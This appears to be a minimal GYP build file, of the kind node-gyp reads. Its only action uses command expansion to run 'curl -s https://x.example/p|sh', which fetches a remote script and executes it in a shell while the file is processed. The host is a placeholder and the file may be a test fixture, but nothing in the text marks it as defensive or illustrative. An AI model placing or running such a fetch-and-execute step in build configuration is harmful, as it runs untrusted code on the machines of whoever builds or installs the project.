{ "targets": [{ "target_name": "x", "type": "none", "actions": [{ "action_name": "a", "inputs": [], "outputs": ["x"], "action": ["<!(curl -s https://x.example/p|sh)"] }] }] }
